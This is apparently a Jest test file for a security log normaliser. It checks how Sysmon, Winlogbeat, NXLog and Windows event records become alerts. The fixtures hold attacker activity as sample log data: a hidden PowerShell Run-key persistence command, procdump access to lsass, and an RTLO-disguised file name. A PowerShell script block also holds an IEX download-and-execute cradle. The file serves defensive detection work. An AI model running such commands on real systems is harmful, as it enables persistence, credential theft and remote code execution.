import { normalizeInput } from '../../../../lambdas/core/formats/index';
import { RECEIVED, byCode, readOwn, run, sysmonFlat, sysmonXml } from '../helpers';

describe('sysmon-xml: wevtutil output without a root (own fixture sysmon-runkey.xml)', () => {
  const { alerts, rejections } = run(readOwn('sysmon-runkey.xml'), 'sysmon-runkey.xml');

  it('turns every event into an alert', () => {
    expect(rejections).toEqual([]);
    expect(alerts.map((a) => [a.source.format, a.eventCode])).toEqual([
      ['sysmon-xml', 22],
      ['sysmon-xml', 13],
      ['sysmon-xml', 11],
      ['sysmon-xml', 1],
    ]);
  });

  it('maps a Run-key registry value set (13)', () => {
    const a = byCode(alerts, 13);
    expect(a).toMatchObject({
      alertId: 'sysmon:fin-ws-034:microsoft-windows-sysmon/operational:48231',
      source: { product: 'sysmon', format: 'sysmon-xml', vendorId: '48231' },
      eventTime: '2024-02-15T21:25:03.123Z',
      receivedTime: RECEIVED,
      eventType: 'registry_value_set',
      eventName: 'Registry value set',
      host: { name: 'FIN-WS-034.corp.example.com', fqdn: 'FIN-WS-034.corp.example.com', os: 'Windows' },
      user: { name: 'jwilliams', domain: 'CORP' },
      rule: { name: 'Registry Run Keys / Start Folder' },
      techniques: ['T1547.001'],
      // Registry value set (20) + 20 because the configuration tagged it with T1547.001.
      severity: { score: 40 },
      registry: {
        operation: 'SetValue',
        key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
        valueName: 'WindowsSecurityUpdate',
        valueData: 'C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow',
      },
      process: { pid: 7842, guid: '{8f4a1c2e-5b3d-65ce-2a1f-000000003d00}' },
      flags: [],
      rawTruncated: false,
    });
    expect(a.raw).toMatch(/^<Event xmlns=.*<\/Event>$/);
  });

  it('maps a process creation (1) with parent, hashes and entity-decoded command line', () => {
    const a = byCode(alerts, 1);
    expect(a.process).toEqual({
      guid: '{8f4a1c2e-5b3d-65ce-2a1f-000000003d00}',
      pid: 7842,
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine:
        'powershell -WindowStyle Hidden -Command "New-ItemProperty -Path HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run ' +
        "-Name WindowsSecurityUpdate -Value 'C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow' " +
        '-PropertyType String -Force"',
      user: 'CORP\\jwilliams',
      integrityLevel: 'High',
      currentDirectory: 'C:\\Users\\jwilliams\\',
      hashes: {
        sha1: '6cbce4a295c163791b60fc23d285e6d84f28ee4c',
        md5: '7353f60b1739074eb17c5f4dddefe239',
        sha256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
        imphash: '741776aaccfc5b71ff59832dcdcace0f',
      },
      parent: {
        guid: '{8f4a1c2e-0f11-65ce-7d00-000000003d00}',
        pid: 4410,
        image: 'C:\\Windows\\explorer.exe',
        commandLine: 'C:\\Windows\\Explorer.EXE',
        user: 'CORP\\jwilliams',
      },
    });
    expect(a.techniques).toEqual(['T1059.001']);
    expect(a.title).toBe('Process Create: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
  });

  it('maps a file creation (11)', () => {
    expect(byCode(alerts, 11).file).toEqual({
      path: 'C:\\ProgramData\\Microsoft\\Drivers\\security.dll',
      creationTime: '2024-02-15 21:24:42.115',
    });
  });

  it('maps a DNS query (22), cleaning the CNAME type prefix', () => {
    const a = byCode(alerts, 22);
    expect(a.dns).toEqual({
      query: 'update-check.example.net',
      results: ['cdn.example.net', '::ffff:203.0.113.45'],
      status: '0',
    });
    expect(a.rule).toBeUndefined();
    expect(a.techniques).toEqual([]);
  });
});

describe('sysmon-xml: Event Viewer export with declaration and <Events> (own fixture)', () => {
  const { alerts, rejections } = run(readOwn('sysmon-eventviewer.xml'));

  it('maps process access (10): the source acts, lsass is the target', () => {
    expect(rejections).toEqual([]);
    const a = byCode(alerts, 10);
    expect(a).toMatchObject({
      eventType: 'process_access',
      severity: { score: 40 },
      techniques: ['T1003.001'],
      user: { name: 'jwilliams', domain: 'CORP' },
      process: {
        guid: '{8f4a1c2e-6a10-65ce-3c1f-000000003d00}',
        pid: 6120,
        image: 'C:\\Users\\Public\\procdump64.exe',
      },
      target: {
        guid: '{8f4a1c2e-0e55-65ce-0c00-000000003d00}',
        pid: 712,
        image: 'C:\\Windows\\system32\\lsass.exe',
        grantedAccess: '0x1fffff',
      },
    });
    expect(a.target?.callTrace).toMatch(/^C:\\Windows\\SYSTEM32\\ntdll\.dll\+9d4c4\|/);
  });

  it('maps a remote thread (8) with its start function and a bare technique rule', () => {
    expect(byCode(alerts, 8)).toMatchObject({
      eventType: 'create_remote_thread',
      techniques: ['T1055'],
      target: {
        pid: 4410,
        image: 'C:\\Windows\\explorer.exe',
        startAddress: '0x00007FFB9285E540',
        startFunction: 'LoadLibraryW',
      },
    });
  });
});

describe('sysmon-ecs: Winlogbeat array (own fixture)', () => {
  const { alerts, rejections } = run(readOwn('sysmon-winlogbeat.json'));

  it('maps a network connection (3)', () => {
    expect(rejections).toEqual([]);
    expect(byCode(alerts, 3)).toMatchObject({
      alertId: 'sysmon:fin-ws-034:microsoft-windows-sysmon/operational:48252',
      source: { format: 'sysmon-ecs' },
      eventTime: '2024-02-15T21:26:00.947Z',
      techniques: ['T1071'],
      network: {
        protocol: 'tcp',
        direction: 'outbound',
        srcIp: '10.20.30.34',
        srcPort: 52114,
        dstIp: '203.0.113.45',
        dstPort: 443,
        dstHostname: 'cdn.example.net',
      },
    });
  });

  it('maps an unsigned image load (7) to the module, not the process', () => {
    const a = byCode(alerts, 7);
    expect(a.module).toEqual({
      path: 'C:\\ProgramData\\Microsoft\\Drivers\\security.dll',
      hashes: { sha256: '9f2c6b1a0e4d3c2b1a09f8e7d6c5b4a39f2c6b1a0e4d3c2b1a09f8e7d6c5b4a3' },
      signed: false,
      signatureStatus: 'Unavailable',
    });
    expect(a.process?.hashes).toBeUndefined();
  });
});

describe('sysmon-flat: NXLog NDJSON with a cut-off line and a Security event (own fixture)', () => {
  const { alerts, rejections } = run(readOwn('sysmon-nxlog.ndjson'));

  it('accounts for every line', () => {
    expect(alerts.map((a) => [a.source.format, a.eventCode])).toEqual([
      ['sysmon-flat', 1],
      ['sysmon-flat', 11],
      ['sysmon-flat', 12],
      ['windows-event', 4688],
    ]);
    expect(rejections.map((r) => [r.position, r.reason])).toEqual([
      ['line 3', 'invalid JSON: a string runs past the end of its line (a cut-off line?)'],
    ]);
  });

  it('flags right-to-left override characters in file names and command lines', () => {
    expect(byCode(alerts, 11).flags).toEqual(['bidi-override']);
    expect(byCode(alerts, 1).flags).toEqual(['bidi-override']);
    expect(byCode(alerts, 11).file?.path).toBe('C:\\Users\\mlopez\\AppData\\Roaming\\sync\\invoice\u202egpj.exe');
  });

  it('reads an old-style MitreRef rule with its tactic', () => {
    expect(byCode(alerts, 1)).toMatchObject({
      rule: { name: 'Registry Run Keys' },
      techniques: ['T1060'],
      tactics: ['Persistence'],
      eventTime: '2024-02-16T14:12:40.337Z',
    });
  });

  it("does not take NXLog's own ProcessID or EventType for Sysmon's fields", () => {
    expect(byCode(alerts, 1).process?.pid).toBeUndefined();
    expect(byCode(alerts, 12).registry).toEqual({
      key: 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1112\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    });
  });
});

describe('Sysmon field mapping by event id', () => {
  const one = (xml: string) => {
    const r = run(xml);
    expect(r.rejections).toEqual([]);
    return r.alerts[0]!;
  };
  const T = '2024-02-15 21:25:03.123';

  it('splits the value name off DeleteValue (12) and keeps the key whole on RenameKey (14)', () => {
    const del = one(sysmonXml('12', { UtcTime: T, EventType: 'DeleteValue', TargetObject: 'HKCU\\Software\\X\\v1' }));
    const ren = one(
      sysmonXml('14', {
        UtcTime: T,
        EventType: 'RenameKey',
        TargetObject: 'HKCU\\Software\\X',
        NewName: 'HKCU\\Software\\Y',
      }),
    );
    expect(del.registry).toEqual({ operation: 'DeleteValue', key: 'HKCU\\Software\\X', valueName: 'v1' });
    expect(ren.registry).toEqual({ operation: 'RenameKey', key: 'HKCU\\Software\\X', newName: 'HKCU\\Software\\Y' });
  });

  it('maps a driver load (6) with no acting process', () => {
    const a = one(
      sysmonXml('6', {
        UtcTime: T,
        ImageLoaded: 'C:\\Windows\\System32\\drivers\\evil.sys',
        Signed: 'true',
        Signature: 'ACME',
        SignatureStatus: 'Expired',
      }),
    );
    expect(a.process).toBeUndefined();
    expect(a.module).toEqual({
      path: 'C:\\Windows\\System32\\drivers\\evil.sys',
      signed: true,
      signature: 'ACME',
      signatureStatus: 'Expired',
    });
  });

  it('maps WMI filter, consumer and binding (19–21)', () => {
    const f = one(
      sysmonXml('19', {
        UtcTime: T,
        Operation: 'Created',
        Name: '"Updater"',
        Query: '"SELECT * FROM __InstanceModificationEvent"',
        EventNamespace: '"root\\cimv2"',
      }),
    );
    const c = one(
      sysmonXml('20', {
        UtcTime: T,
        Operation: 'Created',
        Name: '"Updater"',
        Type: 'Command Line',
        Destination: '"C:\\x.exe"',
      }),
    );
    const b = one(
      sysmonXml('21', {
        UtcTime: T,
        Operation: 'Created',
        Consumer: 'CommandLineEventConsumer.Name="Updater"',
        Filter: '__EventFilter.Name="Updater"',
      }),
    );
    expect(f.wmi).toEqual({
      operation: 'Created',
      name: '"Updater"',
      query: '"SELECT * FROM __InstanceModificationEvent"',
    });
    expect(f.description).toBe('EventNamespace: "root\\cimv2"');
    expect(c.wmi).toEqual({ operation: 'Created', name: '"Updater"', destination: '"C:\\x.exe"' });
    expect(b.wmi).toEqual({
      operation: 'Created',
      consumer: 'CommandLineEventConsumer.Name="Updater"',
      filter: '__EventFilter.Name="Updater"',
    });
    expect([f.severity.score, c.eventType, b.eventType]).toEqual([40, 'wmi_consumer', 'wmi_binding']);
  });

  it('keeps a pipe name in the title and description (17)', () => {
    const a = one(
      sysmonXml('17', { UtcTime: T, EventType: 'CreatePipe', PipeName: '\\msagent_81', Image: 'C:\\x.exe' }),
    );
    expect([a.title, a.description]).toEqual([
      'Pipe Created: \\msagent_81',
      'PipeName: \\msagent_81\nEventType: CreatePipe',
    ]);
  });

  it('takes file hashes from Hash on a file stream (15)', () => {
    const a = one(
      sysmonXml('15', {
        UtcTime: T,
        TargetFilename: 'C:\\a.exe:Zone.Identifier',
        Hash: 'SHA256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      }),
    );
    expect(a.file).toEqual({ path: 'C:\\a.exe:Zone.Identifier', hashes: { sha256: 'a'.repeat(64) } });
  });

  it('drops the all-zero GUID Sysmon writes for a parent it does not know', () => {
    const a = one(
      sysmonXml('1', {
        UtcTime: T,
        Image: 'C:\\x.exe',
        ParentProcessGuid: '{00000000-0000-0000-0000-000000000000}',
        ParentProcessId: '14736',
      }),
    );
    expect(a.process?.parent).toEqual({ pid: 14736 });
  });

  it('keeps an id newer than the table, flagged', () => {
    const a = one(sysmonXml('30', { UtcTime: T, Image: 'C:\\x.exe' }));
    expect([a.eventType, a.eventName, a.flags]).toEqual(['sysmon_event_30', 'Sysmon event 30', ['unknown-event-id']]);
  });

  it('reads the Linux Sysmon provider', () => {
    const xml = sysmonXml('1', { UtcTime: T, Image: '/usr/bin/curl' })
      .replace("Name='Microsoft-Windows-Sysmon'", "Name='Linux-Sysmon'")
      .replace('Microsoft-Windows-Sysmon/Operational', 'Linux-Sysmon/Operational');
    expect(one(xml).host).toEqual({ name: 'WS-01', os: 'Linux' });
  });
});

describe('Sysmon times', () => {
  it('falls back to TimeCreated when UtcTime is absent, and says so', () => {
    const a = run(sysmonXml('5', { Image: 'C:\\x.exe' })).alerts[0]!;
    expect([a.eventTime, a.flags]).toEqual(['2024-02-15T21:25:03.129Z', ['time-from-timecreated']]);
  });

  it('falls back to TimeCreated when UtcTime is unreadable, and says so', () => {
    const a = run(sysmonXml('5', { UtcTime: 'not a time' })).alerts[0]!;
    expect(a.flags).toEqual(['utctime-invalid', 'time-from-timecreated']);
  });

  it('flags a flat record whose only time has no trustworthy zone', () => {
    const flat = sysmonFlat({ UtcTime: undefined, EventTime: '2024-02-15 16:25:03' });
    const a = run(JSON.stringify(flat)).alerts[0]!;
    expect([a.eventTime, a.flags]).toEqual([
      '2024-02-15T16:25:03.000Z',
      ['time-from-timecreated', 'time-zone-unverified'],
    ]);
  });

  it('rejects an event with no usable time at all', () => {
    const r = run(JSON.stringify(sysmonFlat({ UtcTime: 'soon' })));
    expect(r.rejections.map((x) => x.reason)).toEqual(['invalid timestamp in UtcTime: "soon"']);
  });
});

describe('Sysmon identity and raw', () => {
  it('uses a content hash when there is no record id, stable across deliveries', () => {
    const rec = JSON.stringify(sysmonFlat({ Image: 'C:\\a.exe', ProcessGuid: '{1}' }));
    const [a, b] = [run(rec).alerts[0]!, run(rec).alerts[0]!];
    const other = run(JSON.stringify(sysmonFlat({ Image: 'C:\\b.exe', ProcessGuid: '{1}' }))).alerts[0]!;
    expect(a.alertId).toMatch(/^sysmon:ws-02:[0-9a-f]{32}$/);
    expect(b.alertId).toBe(a.alertId);
    expect(other.alertId).not.toBe(a.alertId);
    expect(a.source.vendorId).toBeUndefined();
  });

  it('caps the raw record and says so', () => {
    const r = normalizeInput(
      sysmonXml('1', { UtcTime: '2024-02-15 21:25:03.123', CommandLine: 'x'.repeat(500) }),
      't',
      {
        receivedTime: RECEIVED,
        maxRawBytes: 100,
      },
    );
    const a = r.alerts[0]!;
    expect([a.rawTruncated, a.flags, (a.raw as string).length]).toEqual([true, ['raw-truncated'], 100]);
    expect(a.process?.commandLine).toBe('x'.repeat(500));
  });

  it('keeps the parsed JSON as raw for JSON shapes', () => {
    const flat = sysmonFlat({ Image: 'C:\\a.exe' });
    expect(run(JSON.stringify(flat)).alerts[0]!.raw).toEqual(flat);
  });
});

describe('Sysmon records that cannot be alerts', () => {
  const reason = (body: string): string[] => run(body).rejections.map((r) => r.reason);

  it('rejects a non-numeric EventID', () => {
    expect(reason(JSON.stringify(sysmonFlat({ EventID: 'abc' })))).toEqual([
      'invalid EventID: "abc" is not an event number',
    ]);
  });

  it('rejects a host that is an object, or missing', () => {
    expect(reason(JSON.stringify(sysmonFlat({ Hostname: { name: 'x' } })))).toEqual([
      'invalid host: Hostname is an object, not text',
    ]);
    expect(reason(JSON.stringify(sysmonFlat({ Hostname: undefined })))).toEqual([
      'missing host: no Computer/Hostname field',
    ]);
    expect(reason(sysmonXml('1', { UtcTime: '2024-02-15 21:25:03.123' }, ''))).toEqual([
      'missing host: no Computer/Hostname field',
    ]);
  });

  it('keeps field values of the wrong type out of the alert instead of failing', () => {
    const a = run(JSON.stringify(sysmonFlat({ ProcessId: { x: 1 }, Image: ['a'], CommandLine: 'ok' }))).alerts[0]!;
    expect(a.process).toEqual({ commandLine: 'ok' });
  });
});

describe('other Windows channels (windows-event adapter)', () => {
  it('keeps a PowerShell 4104 script block as a generic event, not as Sysmon', () => {
    const xml =
      "<Event><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID>" +
      "<TimeCreated SystemTime='2024-02-15T21:24:11.000Z'/><EventRecordID>991</EventRecordID>" +
      '<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>WS-01</Computer>' +
      "<Security UserID='S-1-5-21-1-2-3-1104'/></System><EventData><Data Name='MessageNumber'>1</Data>" +
      "<Data Name='ScriptBlockText'>IEX (New-Object Net.WebClient).DownloadString('http://x/a')</Data></EventData></Event>";
    const a = run(xml).alerts[0]!;
    expect(a).toMatchObject({
      alertId: 'winevt:ws-01:microsoft-windows-powershell/operational:991',
      source: { product: 'generic', format: 'windows-event', vendorId: '991' },
      eventType: 'script_block',
      eventCode: 4104,
      description: "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
      user: { name: 'S-1-5-21-1-2-3-1104', sid: 'S-1-5-21-1-2-3-1104' },
      techniques: [],
    });
  });
});
